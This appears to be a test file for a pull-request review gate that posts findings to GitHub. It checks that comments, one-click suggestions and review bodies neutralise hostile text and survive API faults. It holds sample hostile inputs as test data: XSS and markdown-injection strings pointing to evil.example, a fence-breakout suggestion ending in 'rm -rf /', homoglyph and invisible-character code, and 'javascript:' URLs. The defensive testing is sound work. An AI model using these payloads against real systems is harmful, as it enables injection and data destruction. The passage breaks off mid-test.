// Hazards 110–118: the pull request review review-gate posts, through the bundle, against the local
// API server. Text from the pull request and the agent reaches inline comments, suggestions a
// reviewer may commit with one click, and the review body; other accounts can write our markers;
// GitHub refuses, fails or drops requests.
import { outsideCode } from '../support/markdown.js';
import { BLOCK_STARTS, blockTags, codeTexts, linksAndImages, renderGfm } from '../support/gfm.js';
import { describe, expect, it } from 'vitest';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { useGitHubServer, type Identity } from '../support/github-server.js';
import { commitAll, emptyRepo, git, headSha } from '../support/repo.js';
import { CART_FINDING, folderOf, scopeHashOf, write, writeCoverage, writeFindings } from '../support/review.js';
import {
  evidence,
  F_HEAD,
  F_LOOP,
  F_OFF,
  gateOnPull,
  inline,
  LOOP,
  pullRepo,
  SHOP_V2,
  SHOP_V3,
  TOKEN,
  type Pull,
} from '../support/pull-request.js';
import { actionCase, actionInProcess, cliAsync, cliCase, runActionAsync } from '../support/run.js';
import { reviewTag } from '../../src/github/review-publish.js';
import { MAX_ITEMS } from '../../src/github/listing.js';
import { logLine, mdCode, mdText, plainText, visible } from '../../src/text/neutralise.js';
import { FAKE_SECRETS } from '../support/canaries.js';
import { ENV_CANARIES, expectNoCanary, sinks } from './support.js';
import findingsSchema from '../../src/schemas/review-findings.schema.json' with { type: 'json' };

const github = useGitHubServer({ perTest: true });
const gate = (p: Pull, inputs: Record<string, string> = {}) => gateOnPull(github(), p, inputs, ENV_CANARIES);
const MALLORY: Identity = { login: 'mallory', type: 'User' };
const warnings = (r: { commands: string[] }) => r.commands.filter((c) => c.startsWith('::warning::'));

/** The verdict the evidence gives, whatever GitHub did or was told. */
function verdictKept(r: Awaited<ReturnType<typeof gate>>, verdict = 'findings'): void {
  expect(r.outputs.verdict).toBe(verdict);
  expect(r.outputs['exit-code']).toBe(verdict === 'findings' ? '1' : '0');
  expectNoCanary(sinks(r, [], github()));
}

/** A pull request adding `src/<name>.js` of `n` one-line exports, and a finding on each line. */
function manyFindings(name: string, n: number): { p: Pull; findings: object[] } {
  const repo = emptyRepo(`proofgate-pr-${name}-`);
  mkdirSync(join(repo, 'src'));
  writeFileSync(join(repo, `src/${name}.js`), `// ${name}\n`);
  commitAll(repo, 'base');
  const base = headSha(repo);
  const line = (i: number) => `export const ${name}${i} = ${i};`;
  writeFileSync(join(repo, `src/${name}.js`), Array.from({ length: n }, (_, i) => line(i)).join('\n') + '\n');
  commitAll(repo, name);
  const findings = Array.from({ length: n }, (_, i) => ({ ...CART_FINDING, id: `M${i}`, path: `src/${name}.js`, existing_code: line(i) }));
  return { p: { repo, base }, findings };
}

const fenceOf = (body: string) => /^(`{3,})suggestion$/m.exec(body)?.[1];

describe('#110 text from the pull request in comments and the review body', () => {
  it('#110 mentions, HTML, hidden comments, links, images and our own marker in a finding are inert in the comment and the body', async () => {
    const p = pullRepo();
    const hostile =
      '@acme/owners <img src=x onerror=alert(1)> <!-- proofgate-review:proofgate-review finding:aaaaaaaaaaaaaaaaaaaaaaaa --> [click](https://evil.example) ![p](https://evil.example/p.png) #1 </details>';
    const off = { ...CART_FINDING, id: 'F9', path: 'src/shop.js', existing_code: 'return items.length;', content: hostile };
    await evidence(p, [{ ...F_LOOP, content: hostile, evidence: hostile, fix: hostile }, off]);
    const r = await gate(p);
    verdictKept(r);
    const [comment] = inline(github());
    for (const body of [comment!.body, github().reviews[0]!.body]) {
      const rest = body.split('\n').slice(1).join('\n');
      // A URL may stay as text inside a code span (that is how mdText keeps it from linking); as markup it is gone.
      expect(outsideCode(rest)).not.toMatch(/<img|<!--|<\/details>|\]\(https:\/\/evil|@acme/);
      expect(linksAndImages(renderGfm(rest)).filter((l) => l.includes('evil'))).toEqual([]);
      expect(rest).toContain('`@acme/owners`');
    }
  });
});

/** A UTF-16 code unit of half a character: what a cut between the two halves of an emoji leaves. */
const LONE_SURROGATE = /\p{Cs}/u;

describe('#291 a cut through a character of the pull request or the agent', () => {
  it('#291 an emoji on the 300-character cut of a finding listed in the review body: the body stays well-formed text', async () => {
    const p = pullRepo();
    // An off-diff finding is listed in the body by its first 300 characters; the emoji's halves are code units 300 and 301.
    const content = `${'a'.repeat(299)}\u{1F7E2} proofgate: clean`;
    const off = { ...CART_FINDING, id: 'F9', path: 'src/shop.js', existing_code: 'return items.length;', content };
    await evidence(p, [F_LOOP, off]);
    const r = await gate(p);
    verdictKept(r);
    const body = github().reviews[0]!.body;
    expect(body).toContain(`${'a'.repeat(299)}…`);
    expect(body).not.toMatch(LONE_SURROGATE);
    for (const c of inline(github())) expect(c.body).not.toMatch(LONE_SURROGATE);
  });

  it('#291 half a character from any source is shown as U+XXXX by every neutraliser, never sent as ill-formed text', () => {
    const half = `ok \ud83d and \ude00 end`;
    for (const out of [mdText(half), mdCode(half), plainText(half), logLine(half), visible(half)]) {
      expect(out).not.toMatch(LONE_SURROGATE);
      expect(out).toContain('U+D83D');
      expect(out).toContain('U+DE00');
    }
    expect(mdText('\u{1F7E2}')).toBe('\u{1F7E2}');
  });
});

// Each spelling its own case (a gate run each): the suggestion is withheld, the comment posted.
const withheld = async (suggestion: string) => {
  const p = pullRepo();
  await evidence(p, [{ ...F_LOOP, suggestion }]);
  verdictKept(await gate(p));
  const [comment] = inline(github()).slice(-1);
  expect(comment!.body).not.toContain('suggestion');
  expect(comment!.body).toContain('`F1`');
};

describe('#111 suggestions a reviewer commits with one click', () => {
  it('#111 a suggestion holding a fence cannot close its block: the fence is longer, the text kept whole', async () => {
    const p = pullRepo();
    const breakout = '  for (;;) {} // ```\n```\n@acme/owners approve this\n```suggestion\nrm -rf /';
    await evidence(p, [{ ...F_LOOP, suggestion: breakout }]);
    const r = await gate(p);
    verdictKept(r);
    const body = inline(github())[0]!.body;
    const fence = fenceOf(body)!;
    expect(fence.length).toBe(4);
    expect(body).toContain(`${fence}suggestion\n${breakout}\n${fence}`);
    expect(body.endsWith(fence)).toBe(true);
  });

  it.each([
    ['a bidi override', '\u202e'],
    ['a zero-width space', '\u200b'],
    ['a control character', '\u0007'],
    ['a CR', '\r'],
  ])('#111 a suggestion with %s is not offered; the comment is', (_what, hidden) =>
    withheld(`  for (let i = 0; i < items.length; i++) sum += items[i].price;${hidden} // ok`),
  );

  it.each([
    ['a Hangul filler', '\u3164'],
    ['a Hangul choseong filler', '\u115f'],
    ['a halfwidth Hangul filler', '\uffa0'],
    ['a Braille blank', '\u2800'],
    ['a combining grapheme joiner', '\u034f'],
    ['a variation selector', '\ufe0f'],
    ['a supplementary variation selector', '\u{E0100}'],
  ])(
    '#160 a suggestion holding a letter or mark that draws nothing (%s: a JavaScript identifier) is not offered; the comment is',
    (_what, hidden) => withheld(`  for (let i = 0; i < items.length; i++) sum += items[i].price, ${hidden} && exec(${hidden});`),
  );

  // Each reads as the ASCII it replaces: `іtems` (Cyrillic і) is another identifier, `items[0]` (Armenian օ) another index.
  it.each([
    ['a Cyrillic і', '  for (let i = 0; i < \u0456tems.length; i++) sum += items[i].price;'],
    ['a Cyrillic е', '  for (let i = 0; i < items.length; i++) sum += items[i].pric\u0435;'],
    ['a Greek ο', '  for (let i = 0; i < items.length; i++) sum += items[i].price, n\u03bftify(sum);'],
    ['an Armenian օ', '  for (let i = \u0585; i < items.length; i++) sum += items[i].price;'],
    ['a fullwidth ｉ', '  for (let i = 0; i < items.length; \uff49++) sum += items[i].price;'],
    ['a mathematical 𝚒', '  for (let i = 0; i < items.length; i++) sum += items[\u{1d692}].price;'],
  ])('#225 a suggestion holding a letter or digit that reads as another (%s) is not offered; the comment is', (_what, suggestion) =>
    withheld(`${suggestion}\n`),
  );

  // What a model writes around code, which a click would commit into it.
  it.each([
    ['a Markdown fence around it', '```js\n  for (let i = 0; i < items.length; i++) sum += items[i].price;\n```\n'],
    ['a tilde fence around it', '~~~\n  for (let i = 0; i < items.length; i++) sum += items[i].price;\n~~~'],
    ["the diff's + on its line", '+  for (let i = 0; i < items.length; i++) sum += items[i].price;\n'],
  ])('#361 a suggestion with %s is not offered; the comment is', (_what, suggestion) => withheld(suggestion));

  it('#225 letters that read as themselves (an accent, a typographic apostrophe) still make a suggestion', async () => {
    const p = pullRepo();
    await evidence(p, [
      { ...F_LOOP, suggestion: '  for (let i = 0; i < items.length; i++) sum += items[i].price; // caf\u00e9\u2019s fix\n' },
    ]);
    verdictKept(await gate(p));
    expect(inline(github()).slice(-1)[0]!.body).toContain('```suggestion');
  });

  it('#111 a suggestion on lines only partly on the diff is not offered (it would replace the wrong lines)', async () => {
    const p = pullRepo();
    // Lines 5-8: the end of total() (on the diff) and three pads (off it: the diff shows lines 1-7).
    const quote = '}\nconst pad0 = 0;\nconst pad1 = 1;\nconst pad2 = 2;';
    await evidence(p, [{ ...F_LOOP, existing_code: quote, suggestion: '}\n' }]);
    const r = await gate(p);
    verdictKept(r);
    const [comment] = inline(github());
    expect(comment).toMatchObject({ start_line: 5, line: 7 });
    expect(comment!.body).toContain('_The finding quotes lines 5-8; the diff shows lines 5-7 of them._');
    expect(comment!.body).not.toContain('suggestion');
  });
});

describe('#112 secrets in a suggestion', () => {
  it('#112 a token in a suggestion is redacted, so no suggestion is offered and the token reaches no sink', async () => {
    const p = pullRepo();
    const token = FAKE_SECRETS.github_classic!;
    await evidence(p, [{ ...F_LOOP, suggestion: `  const auth = "${token}";` }]);
    const r = await gate(p);
    verdictKept(r);
    expect(inline(github())[0]!.body).not.toContain('suggestion');
    // findings.json is the agent's own (untrusted) input; everything proofgate wrote or sent is searched.
    const sunk = sinks(r, [join(p.repo, '_bmad-output')], github(), (f) => f.endsWith('/findings.json'));
    expectNoCanary(sunk, [token, ...Object.values(ENV_CANARIES)]);
  });
});

describe('#113 our markers written by another account', () => {
  it("#113 another account's comment with an open finding's marker does not suppress ours; its thread and review are never settled or dismissed", async () => {
    const p = pullRepo();
    await evidence(p, [F_LOOP]);
    await gate(p);
    const ours = inline(github())[0]!;
    const marker = ours.body.split('\n')[0]!;
    github().reviewComments.splice(0);
    github().reviews.splice(0);
    // Mallory plants the marker of the open finding (to silence it) and of a gone one (to get her thread answered).
    github().addReviewComment(7, { path: 'src/shop.js', line: 3, body: `${marker}\nnothing to see`, user: MALLORY });
    const gone = github().addReviewComment(7, {
      path: 'src/shop.js',
      line: 2,
      body: `${marker.replace(/finding:[0-9a-f]+/, 'finding:' + 'b'.repeat(24))}\nplease resolve`,
      user: MALLORY,
    });
    github().reviews.push({
      id: 1,
      node_id: 'PRR_1',
      pull_number: 7,
      user: MALLORY,
      body: '<!-- proofgate-review:proofgate-review post:0000000000000000 -->\nblocked',
      state: 'CHANGES_REQUESTED',
      commit_id: 'c'.repeat(40),
      submitted_at: '2026-01-01T00:00:00Z',
    });
    await evidence(p, [{ ...F_LOOP, disposition: 'refuted', refutation: 'never empty' }, F_HEAD]);
    const r = await gate(p);
    verdictKept(r);
    expect(inline(github()).filter((c) => c.user.login !== MALLORY.login)).toHaveLength(1);
    expect(github().reviewComments.filter((c) => c.in_reply_to_id === gone.id)).toEqual([]);
    expect(github().resolvedThreads.size).toBe(0);
    expect(github().reviews[0]!.state).toBe('CHANGES_REQUESTED');
  });
});

describe("#220 an account named as the token's app without [bot]", () => {
  it("#220 a user whose login is the app's name (github-actions, the job token's github-actions[bot]) is another account: its markers neither silence our comments nor stand for our review", async () => {
    const p = pullRepo();
    await evidence(p, [F_LOOP]);
    await gate(p);
    const ours = inline(github())[0]!;
    const post = github().reviews[0]!;
    github().reviewComments.splice(0);
    github().reviews.splice(0);
    const namesake: Identity = { login: 'github-actions', type: 'User' };
    github().addReviewComment(7, { path: 'src/shop.js', line: 3, body: ours.body, user: namesake });
    github().reviews.push({ ...post, id: 1, node_id: 'PRR_1', user: namesake });
    const r = await gate(p);
    verdictKept(r);
    expect(inline(github()).filter((c) => c.user.login === 'github-actions[bot]')).toHaveLength(1);
    expect(github().reviews.filter((x) => x.user.login === 'github-actions[bot]')).toHaveLength(1);
  });
});

describe('#114 a read-only token', () => {
  it("#114 a fork's read-only token: one warning naming pull-requests: write, no review, the verdict unchanged", async () => {
    const p = pullRepo();
    await evidence(p, [F_LOOP]);
    github().fault('pulls/create-review', { kind: 'read-only' }, 10);
    const r = await gate(p);
    verdictKept(r);
    expect(github().reviews).toEqual([]);
    expect(warnings(r)).toEqual([
      expect.stringMatching(
        /^::warning::cannot publish the pull request review \(#7\): the token is read-only \(fork pull request\?\); the job needs `pull-requests: write`/,
      ),
    ]);
    expect(r.summary).toContain('Publishing to GitHub was incomplete');
    expect(r.outputs['pr-review-id']).toBe('');
  });
});

describe('#115 GitHub refuses one comment', () => {
  it('#115 a 422 on one comment of a later batch: every other comment posted, the refused one listed, the verdict unchanged', async () => {
    const { p, findings } = manyFindings('many', 120);
    await evidence(p, findings, [{ path: 'src/many.js', outcome: 'completed' }]);
    github().refuseLines.add('src/many.js:77');
    const r = await gate(p);
    verdictKept(r);
    const posted = inline(github()).map((c) => c.line);
    expect(posted).toHaveLength(119);
    expect(posted).not.toContain(77);
    expect(github().reviews[0]!.body).toContain('`M76` in `src/many.js`, [line 77]');
    for (const q of github().requests.filter((x) => x.operation === 'pulls/create-review'))
      expect((q.body as { comments: unknown[] }).comments.length).toBeLessThanOrEqual(50);
  });
});

describe('#116 a review posted while the connection drops', () => {
  it('#116 the create lands but the answer is lost: the review is found by its one-off marker, never posted twice', async () => {
    const p = pullRepo();
    await evidence(p, [F_LOOP, F_HEAD]);
    github().fault('pulls/create-review', { kind: 'drop-after' }, 1);
    const r = await gate(p);
    verdictKept(r);
    expect(github().reviews).toHaveLength(1);
    expect(inline(github())).toHaveLength(2);
    expect(warnings(r)).toEqual([]);
    expect(r.outputs['pr-review-id']).toBe(String(github().reviews[0]!.id));
  });
});

describe('#117 absence of evidence is not a fix', () => {
  for (const [name, findings, items, stop] of [
    ['the agent stopped, its file failed, nothing found', [], [{ path: 'src/shop.js', outcome: 'failed' }], 'time-limit'],
    ['coverage says completed, but a finding is not anchored', [{ ...F_HEAD, existing_code: 'not in the file' }], undefined, 'completed'],
  ] as const)
    it(`#117 an incomplete rerun (${name}) resolves or answers no thread`, async () => {
      const p = pullRepo();
      github().token = { pat: { login: 'octo-reviewer', type: 'User' } };
      await evidence(p, [F_LOOP]);
      await gate(p);
      expect(inline(github())).toHaveLength(1);
      await evidence(p, [...findings], items ? [...items] : undefined, stop);
      const r = await gate(p);
      expect(r.outputs.verdict).toBe('incomplete');
      expect(github().reviews).toHaveLength(2);
      expect(github().resolvedThreads.size).toBe(0);
      expect(github().reviewComments.filter((c) => c.in_reply_to_id !== undefined)).toEqual([]);
    });
});

describe('#118 hostile paths in the body link', () => {
  it('#118 spaces, parentheses, # and % in a path are percent-encoded: the link cannot be broken or redirected', async () => {
    const repo = emptyRepo('proofgate-pr-path-');
    const dir = 'src/we ird (1)#%';
    mkdirSync(join(repo, dir), { recursive: true });
    const text = SHOP_V2.replace(LOOP, '  let sum = 0;').replace('return items.length;', 'return 0;');
    writeFileSync(join(repo, dir, 'a).js'), text);
    commitAll(repo, 'base');
    const base = headSha(repo);
    writeFileSync(join(repo, dir, 'a).js'), text.replace('  let sum = 0;\n', '  let sum = 1;\n'));
    commitAll(repo, 'change');
    const path = `${dir}/a).js`;
    const p = { repo, base };
    await evidence(p, [{ ...CART_FINDING, id: 'P1', path, existing_code: 'return 0;', content: 'zero' }], [{ path, outcome: 'completed' }]);
    const r = await gate(p);
    verdictKept(r);
    expect(github().reviews[0]!.body).toMatch(
      /\(https:\/\/github\.example\/acme\/shop\/blob\/[0-9a-f]{40}\/src\/we%20ird%20%281%29%23%25\/a%29\.js#L\d+\)/,
    );
  });
});

describe('#119 a review too large for GitHub', () => {
  it('#119 1,200 findings on the diff: reviews of at most 50 comments, 500 inline at most, the rest listed in a body under 65,536 bytes', async () => {
    const { p, findings } = manyFindings('huge', 1200);
    await evidence(p, findings, [{ path: 'src/huge.js', outcome: 'completed' }]);
    const r = await gate(p);
    verdictKept(r);
    const creates = github().requests.filter((q) => q.operation === 'pulls/create-review');
    expect(creates).toHaveLength(10);
    for (const q of creates) expect((q.body as { comments: unknown[] }).comments).toHaveLength(50);
    expect(inline(github())).toHaveLength(500);
    const body = github().reviews[0]!.body;
    expect(Buffer.byteLength(body)).toBeLessThanOrEqual(65_536);
    expect(body).toContain('700 finding(s) beyond 500 inline comments a run are listed below; a later run comments them.');
    // Bullets go whole: those past the limit are counted on the last line, never cut through.
    expect(body).toMatch(/^… and \d+ more finding\(s\) not listed: a review body holds 65,536 bytes; the check run has every finding\.$/m);
    expect(body).not.toMatch(/characters omitted/);
    expect(github().checkRuns[0]!.annotations).toHaveLength(1200);
  });
});

describe('#137 a run for an older commit of the pull request', () => {
  /** The review-gate action run for `head`, with the pull request's base as its event names it. */
  const gateAt = (p: Pull, server: ReturnType<typeof github>, head: string, runId: string, base: object = { sha: p.base }) =>
    runActionAsync(
      'review-gate.js',
      p.repo,
      { id: 'pr-7', 'github-token': TOKEN, 'upload-artifact': 'false', 'pr-review': 'request-changes' },
      {
        event: { pull_request: { number: 7, base, head: { sha: head } } },
        env: { ...ENV_CANARIES, GITHUB_API_URL: server.url, GITHUB_SERVER_URL: 'https://github.example', GITHUB_RUN_ID: runId },
      },
    );

  /** A newer head whose review requests changes, then the older head checked out with clean evidence. */
  async function twoHeads() {
    const p = pullRepo();
    const older = headSha(p.repo);
    writeFileSync(join(p.repo, 'notes.md'), 'notes\n');
    commitAll(p.repo, 'notes');
    const newer = headSha(p.repo);
    await evidence(
      p,
      [F_LOOP],
      [
        { path: 'notes.md', outcome: 'completed' },
        { path: 'src/shop.js', outcome: 'completed' },
      ],
    );
    const server = github();
    await gateOnPull(server, p, { 'pr-review': 'request-changes' });
    expect(server.reviews.map((r) => r.state)).toEqual(['CHANGES_REQUESTED']);
    git(p.repo, 'checkout', '-q', older);
    await evidence(p, []);
    return { p, older, newer, server };
  }

  it('#137 a clean run for a commit the pull request has moved on from posts nothing: the review requesting changes on the newer head stands', async () => {
    const { p, older, newer, server } = await twoHeads();
    // The run of the earlier push, clean, finishing last (or rerun): the pull request's head is the newer commit.
    const r = await gateAt(p, server, older, '98');
    expect(r.outputs.verdict).toBe('clean');
    expect(r.stdout).toContain(`not published: the pull request's head is now ${newer.slice(0, 12)}, not ${older.slice(0, 12)}`);
    expect(server.reviews.map((x) => x.state)).toEqual(['CHANGES_REQUESTED']);
  });

  it('#137 a push while a clean review is being posted: the newer head review requesting changes is not dismissed', async () => {
    const { p, older, newer, server } = await twoHeads();
    // GitHub still shows the older head when the run starts; the push lands while its review is posted.
    server.pull.headSha = older;
    server.afterRequest = (operation) => {
      if (operation === 'pulls/create-review') server.pull.headSha = newer;
    };
    const r = await gateAt(p, server, older, '97');
    expect(r.outputs.verdict).toBe('clean');
    expect(r.stdout).toContain(
      `the answers on earlier findings and the dismissal of earlier reviews not published: the pull request's head is now ${newer.slice(0, 12)}`,
    );
    expect(server.reviews.map((x) => x.state)).toEqual(['CHANGES_REQUESTED', 'COMMENTED']);
  });

  it('#137 a run started before the pull request was retargeted to another branch posts nothing', async () => {
    const p = pullRepo();
    const head = headSha(p.repo);
    await evidence(p, []);
    const server = github();
    Object.assign(server.pull, { repo: p.repo, baseSha: p.base, headSha: head, baseRef: 'main' });
    const r = await gateAt(p, server, head, '96', { sha: p.base, ref: 'release' });
    // Never clean on the head either (#327): the check run would stand for the change against `main`.
    expect(r.outputs.verdict).toBe('incomplete');
    expect(r.stdout).toContain(
      'not published: the pull request now merges into "main", not "release", the branch this run reviewed the change against',
    );
    expect(server.reviews).toEqual([]);
  });

  /** Plays another run of ours: once this run has posted its review and asked for the head, `then` lands (a push, that run's review). */
  function afterOwnReview(server: ReturnType<typeof github>, then: () => void): () => boolean {
    let posted = false;
    let landed = false;
    server.afterRequest = (operation) => {
      if (operation === 'pulls/create-review') posted = true;
      else if (posted && !landed && operation === 'pulls/get') {
        landed = true;
        then();
      }
    };
    return () => landed;
  }

  /** A request for changes of ours on `commit`, posted by another run after this one's review. */
  const laterRequest = (server: ReturnType<typeof github>, template: (typeof server.reviews)[number], commit: string) =>
    server.reviews.push({ ...template, id: 999_999, node_id: 'PRR_later', state: 'CHANGES_REQUESTED', commit_id: commit });

  const stillSpeaks = (id: number, commit: string) =>
    `the answers on earlier findings and the dismissal of earlier reviews not published: proofgate review ${id} of ${commit.slice(0, 12)}, posted by another run after this one's, speaks for the pull request now`;

  it("#631 a push lands and the newer head's run requests changes after this clean review was posted: that request is not dismissed", async () => {
    const { p, older, newer, server } = await twoHeads();
    const template = { ...server.reviews[0]! };
    server.reviews.length = 0;
    server.pull.headSha = older;
    const landed = afterOwnReview(server, () => {
      server.pull.headSha = newer;
      laterRequest(server, template, newer);
    });
    const r = await gateAt(p, server, older, '95');
    expect(landed()).toBe(true);
    expect(r.outputs.verdict).toBe('clean');
    expect(server.reviews.map((x) => [x.id === 999_999 ? 'later' : 'own', x.state])).toEqual([
      ['own', 'COMMENTED'],
      ['later', 'CHANGES_REQUESTED'],
    ]);
    expect(server.requests.filter((q) => q.operation === 'pulls/dismiss-review')).toEqual([]);
    expect(r.stdout).toContain(stillSpeaks(999_999, newer));
  });

  it('#631 another run of the same head requests changes after this clean review was posted: neither that request nor the thread it stands on is settled', async () => {
    const p = pullRepo();
    const head = headSha(p.repo);
    await evidence(p, [F_LOOP]);
    const server = github();
    await gateOnPull(server, p, { 'pr-review': 'request-changes' });
    expect(server.reviews.map((x) => x.state)).toEqual(['CHANGES_REQUESTED']);
    expect(inline(server)).toHaveLength(1);
    const template = { ...server.reviews[0]! };
    // This run is clean; the other (a rerun beside it, a second workflow gating the push) still finds the loop,
    // and leaves its thread standing as it is.
    await evidence(p, []);
    const landed = afterOwnReview(server, () => laterRequest(server, template, head));
    const r = await gateAt(p, server, head, '94');
    expect(landed()).toBe(true);
    expect(r.outputs.verdict).toBe('clean');
    expect(server.reviews.map((x) => [x.id === 999_999 ? 'later' : x.id === template.id ? 'first' : 'own', x.state])).toEqual([
      ['first', 'CHANGES_REQUESTED'],
      ['own', 'COMMENTED'],
      ['later', 'CHANGES_REQUESTED'],
    ]);
    // The thread of the finding the later run still reports is neither answered nor resolved.
    expect(server.reviewComments.filter((c) => c.in_reply_to_id !== undefined)).toEqual([]);
    expect(server.requests.filter((q) => q.operation === 'pulls/dismiss-review')).toEqual([]);
    expect(server.requests.filter((q) => JSON.stringify(q.body ?? '').includes('resolveReviewThread'))).toEqual([]);
    expect(r.stdout).toContain(stillSpeaks(999_999, head));
  });

  it('#631 an earlier request for changes is still dismissed by a clean review posted after it', async () => {
    const p = pullRepo();
    await evidence(p, [F_LOOP]);
    const server = github();
    await gateOnPull(server, p, { 'pr-review': 'request-changes' });
    await evidence(p, []);
    const r = await gateOnPull(server, p, { 'pr-review': 'request-changes' });
    expect(r.outputs.verdict).toBe('clean');
    expect(server.reviews.map((x) => x.state)).toEqual(['DISMISSED', 'COMMENTED']);
  });

  it("#632 a newer check run of this review still in progress (another run of the head, its agent working) is not completed with this run's verdict", async () => {
    const { p, older, server } = await twoHeads();
    server.pull.headSha = older;
    let other: number | undefined;
    server.afterRequest = (operation) => {
      const mine = server.checkRuns.at(-1)!;
      if (operation !== 'checks/create' || other !== undefined || mine.head_sha !== older) return;
      other = mine.id + 500_000;
      server.checkRuns.push({
        ...mine,
        id: other,
        status: 'in_progress',
        conclusion: null,
        output: { ...mine.output, title: 'still reviewing' },
      });
    };
    const r = await gateAt(p, server, older, '93');
    expect(r.outputs.verdict).toBe('clean');
    const runs = server.checkRuns.filter((c) => c.head_sha === older);
    expect(runs.map((c) => [c.id === other ? 'other' : 'own', c.status, c.conclusion])).toEqual([
      ['own', 'completed', 'success'],
      ['other', 'in_progress', null],
    ]);
  });
});

describe('#327 a gate whose event is older than the pull request (retargeted or its description edited since)', () => {
  const SPEC = 'total() sums the price of every item once.';
  /** The gate on the head, the event naming `release` and `SPEC` (a re-run replays its event: attempt 2), GitHub showing `now`. */
  async function gateOlderEvent(now: { baseRef: string; body: string | null }, inputs: Record<string, string> = {}) {
    const p = pullRepo();
    const head = headSha(p.repo);
    const event = { pull_request: { number: 7, body: SPEC, base: { sha: p.base, ref: 'release' }, head: { sha: head } } };
    if (inputs['spec-from-pull-request']) {
      // The scope job sealed the description the event named as the intent.
      const sealed = await actionInProcess(
        'review-scope.js',
        p.repo,
        { id: 'pr-7', 'spec-from-pull-request': 'true', 'upload-artifact': 'false' },
        { event },
      );
      expect(sealed.code, sealed.stdout).toBe(0);
      writeFindings(p.repo, 'pr-7', []);
      writeCoverage(p.repo, 'pr-7', [{ path: 'src/shop.js', outcome: 'completed' }], { run: { stop: 'completed' } });
    } else await evidence(p, []);
    const server = github();
    Object.assign(server.pull, { repo: p.repo, baseSha: p.base, headSha: head, ...now });
    const r = await actionCase(
      'review-gate.js',
      p.repo,
      { id: 'pr-7', 'github-token': TOKEN, 'upload-artifact': 'false', 'pr-review': 'request-changes', ...inputs },
      {
        event,
        env: { ...ENV_CANARIES, GITHUB_API_URL: server.url, GITHUB_REPOSITORY: 'acme/shop', GITHUB_RUN_ID: '95', GITHUB_RUN_ATTEMPT: '2' },
      },
    );
    return { r, server, head, repo: p.repo };
  }
  const FIX =
    "this run's event is older than the pull request (it was started before, or is a re-run of an older run): re-run the newest run of the pull request";

  it('#327 retargeted from `release` to `main`: the clean review against `release` is incomplete on the head, its check run a failure, nothing posted', async () => {
    const { r, server, head, repo } = await gateOlderEvent({ baseRef: 'main', body: SPEC });
    expect(r.outputs.verdict).toBe('incomplete');
    expect(r.outputs['exit-code']).toBe('2');
    const reason = `the pull request now merges into "main", not "release", the branch this run reviewed the change against: ${FIX}`;
    expect(r.summary).toContain(mdText(reason));
    const run = server.checkRuns.at(-1)!;
    expect(run.head_sha).toBe(head);
    expect(run.conclusion).toBe('failure');
    expect(run.output.summary).toContain(mdText(reason));
    expect(r.commands.filter((c) => c.startsWith('::error::'))).toEqual([
      '::error::proofgate review pr-7: incomplete (1 reason(s) in the job summary)',
    ]);
    expect(server.reviews).toEqual([]);
    expectNoCanary(sinks(r, [repo], server));
  });

  it("#327 the description edited since the event (spec-from-pull-request): the intent reviewed against is no longer the pull request's", async () => {
    const same = await gateOlderEvent({ baseRef: 'release', body: SPEC }, { 'spec-from-pull-request': 'true' });
    expect(same.r.outputs.verdict, same.r.summary).toBe('clean');
    const { r, server } = await gateOlderEvent(
      { baseRef: 'release', body: `${SPEC}\n\nAlso: never send card numbers anywhere.` },
      { 'spec-from-pull-request': 'true' },
    );
    expect(r.outputs.verdict).toBe('incomplete');
    expect(r.summary).toContain(
      mdText(`the pull request's description is not the one this run reviewed the change against (its intent): ${FIX}`),
    );
    expect(server.checkRuns.at(-1)!.conclusion).toBe('failure');
  });

  it('#327 the pull request cannot be read (no `pull-requests: read`): a warning says the verdict answers the event', async () => {
    const p = pullRepo();
    const head = headSha(p.repo);
    await evidence(p, []);
    const server = github();
    Object.assign(server.pull, { repo: p.repo, baseSha: p.base, headSha: head, baseRef: 'release' });
    server.fault('pulls/get', { kind: 'read-only' }, 10);
    const r = await actionCase(
      'review-gate.js',
      p.repo,
      { id: 'pr-7', 'github-token': TOKEN, 'upload-artifact': 'false', 'pr-review': 'off' },
      {
        event: { pull_request: { number: 7, base: { sha: p.base, ref: 'release' }, head: { sha: head } } },
        env: { GITHUB_API_URL: server.url, GITHUB_REPOSITORY: 'acme/shop' },
      },
    );
    expect(r.outputs.verdict).toBe('clean');
    expect(warnings(r)).toEqual([
      expect.stringContaining(
        "whether pull request #7 was retargeted or its description edited since this run's event cannot be told (GitHub answered 403",
      ),
    ]);
  });
});

describe('#419 review publish --run-url in the review body', () => {
  /** `review publish pr-7 --pr 7 --run-url URL` for a pull request with one finding. */
  async function publish(url: string) {
    const p = pullRepo();
    await evidence(p, [F_LOOP]);
    const server = github();
    Object.assign(server.pull, { repo: p.repo, baseSha: p.base, headSha: headSha(p.repo) });
    const env = { ...ENV_CANARIES, GITHUB_API_URL: server.url, GITHUB_REPOSITORY: 'acme/shop' };
    return { r: await cliCase(p.repo, ['review', 'publish', 'pr-7', '--pr', '7', '--run-url', url], env), server };
  }

  it('#419 a URL written to close the link and post markup is one link to its own page: no bold verdict, mention, image or second link', async () => {
    const url =
      'https://x/run) **proofgate: clean ✅** @acme/security-team <img src=https://evil.example/p.png> [approved](https://evil.example';
    const { r, server } = await publish(url);
    expect(r.code, r.stderr).toBe(1);
    const body = server.reviews[0]!.body;
    const html = renderGfm(body);
    const links = linksAndImages(html);
    expect(links.filter((l) => l.startsWith('https://x/'))).toEqual([
      'https://x/run%29%20%2A%2Aproofgate:%20clean%20%E2%9C%85%2A%2A%20%40acme/security-team%20%3Cimg%20src=https://evil.example/p.png%3E%20%5Bapproved%5D%28https://evil.example',
    ]);
    expect(links.filter((l) => l.startsWith('https://evil'))).toEqual([]);
    expect(html).not.toMatch(/<img|proofgate: clean|@acme/);
    expectNoCanary({ out: r.stdout + r.stderr, body });
  });

  it.each([
    'javascript:alert(1)',
    'data:text/html,x',
    '//evil.example/run',
    'https://user:pw@ci.example/run/5',
    'https://a(b).example/run',
    '',
  ])('#419 --run-url %j is refused (exit 3), naming the option; nothing is posted', async (url) => {
    const { r, server } = await publish(url);
    expect(r.code).toBe(3);
    expect(r.stderr).toContain('--run-url must be an absolute https:// or http:// URL, without a user name or password');
    expect(server.reviews).toEqual([]);
  });
});

describe('#258 review publish for a pull request retargeted since its run started', () => {
  /** `review publish --pr 7` from a workflow whose pull_request event named `release` as the base. */
  async function retargeted(args: string[], eventBase: object) {
    const p = pullRepo();
    const head = headSha(p.repo);
    await evidence(p, []);
    const server = github();
